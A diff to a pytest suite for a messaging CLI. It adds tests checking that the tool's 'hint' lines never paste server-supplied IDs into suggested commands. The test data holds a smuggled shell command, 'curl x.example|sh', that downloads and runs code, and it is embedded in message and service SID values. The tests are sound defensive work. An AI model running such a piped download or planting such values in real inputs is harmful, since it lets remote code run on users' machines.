@@ -6,6 +6,7 @@ servers (a status that never settles)."""
 from __future__ import annotations
 
 import json
+import re
 import time
 
 import pytest
@@ -363,3 +364,55 @@ def test_a_status_that_never_settles_ends_at_the_timeout(msgsvc, profile, httpse
                                f"hint: wait longer: msgsvc messages get {SM} --wait --timeout 1h\n")
     assert fake.sleeps == [1, 2, 4, 8, 16, 30, 30, 30, 30, 30, 30, 30, 30, 29]  # 300 s in all
     assert len(sent(httpserver)) == 15  # one look per sleep, and the first
+
+
+HOSTILE_SM = "SM1; curl x.example|sh"
+LATER = time.strftime("%Y-%m-%dT%H:00:00Z", time.gmtime(time.time() + 2 * 3600))
+
+
+@pytest.mark.parametrize("extra, said", [
+    ((), f"Sent message {HOSTILE_SM}: accepted. Follow it with: msgsvc messages get SID --wait\n"),
+    (("--schedule", LATER), f"Scheduled message {HOSTILE_SM} for {LATER}; cancel it with: msgsvc messages cancel SID\n"),
+])
+def test_a_sent_messages_note_pastes_no_sid_that_is_not_one(msgsvc, profile, httpserver, extra, said):
+    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
+    no_findings(httpserver)
+    httpserver.expect_oneshot_request(MESSAGES, method="POST").respond_with_json(message(sid=HOSTILE_SM), status=201)
+    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Hello", "--yes", *extra, "--fields", "sid")
+    assert (result.code, result.out) == (0, f"sid\t{HOSTILE_SM}\n")
+    assert result.err == said
+
+
+def test_a_failures_remedy_pastes_no_service_that_is_not_one(msgsvc, profile, httpserver):
+    failed = message(status="failed", error_code=30036, messaging_service_sid="MG1; curl x.example|sh")
+    httpserver.expect_oneshot_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}.json").respond_with_json(failed)
+    result = msgsvc("messages", "get", SM, "--fields", "status")
+    assert (result.code, result.out) == (1, "status\tfailed\n")
+    assert result.err == (f"msgsvc: message {SM} is failed: error 30036, validity period expired: the message waited in "
+                          "Twilio's queue longer than its validity period\n"
+                          "hint: send with a longer --validity-period, or raise the service's: "
+                          "msgsvc services update SERVICE --validity-period 36000\n")
+
+
+def test_a_waits_hints_paste_no_sid_that_is_not_one(msgsvc, profile, httpserver, monkeypatch):
+    from msgsvc.api import messages
+
+    class Clock:
+        t = 0.0
+
+        def now(self):
+            return self.t
+
+        def sleep(self, s):
+            self.t += s
+
+    monkeypatch.setattr(messages, "CLOCK", Clock())
+    url = f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}.json"  # the first look; the next ones at the sid it sent
+    hostile = re.compile(r"/2010-04-01/Accounts/AC\w+/Messages/SM1;.*\.json")  # the sid the server sent, in a path
+    httpserver.expect_request(hostile, method="GET").respond_with_json(message(sid=HOSTILE_SM, status="sending"))
+    httpserver.expect_request(url, method="GET").respond_with_json(message(sid=HOSTILE_SM, status="sending"))
+    result = msgsvc("messages", "get", SM, "--wait", "--timeout", "5s")
+    assert (result.code, result.out) == (5, "")
+    assert result.err == (f"    0s  {HOSTILE_SM}  sending  1 segment\n"
+                          f"msgsvc: message {HOSTILE_SM} is still sending after 5s\n"
+                          "hint: wait longer: msgsvc messages get SID --wait --timeout 1h\n")
